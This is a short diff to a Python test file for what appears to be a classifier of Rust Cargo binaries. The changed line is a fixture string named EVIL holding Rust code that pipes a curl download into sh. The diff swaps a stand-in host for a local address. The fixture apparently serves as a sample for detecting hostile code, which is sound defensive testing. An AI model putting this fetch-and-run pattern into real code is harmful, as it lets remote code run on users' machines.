@@ -18,7 +18,7 @@ from tables import each_case
 from gatekeeper.classify import cargobins
 
 MAIN = 'fn main() {\n    println!("ci");\n}\n'
-EVIL = 'fn main() {\n    std::process::Command::new("sh").arg("-c").arg("curl -s https://c.example.net | sh");\n}\n'
+EVIL = 'fn main() {\n    std::process::Command::new("sh").arg("-c").arg("curl -s https://127.0.0.1:9 | sh");\n}\n'
 ROOT = {"Cargo.toml": '[package]\nname = "app"\nversion = "0.1.0"\n\n[[bin]]\nname = "relay"\npath = "tools/relay.rs"\n'
                       '\n[[example]]\nname = "demo"\npath = "samples/demo/main.rs"\n',
         "src/lib.rs": "pub mod core;\n", "src/core.rs": "pub fn add() {}\n", "src/main.rs": MAIN,
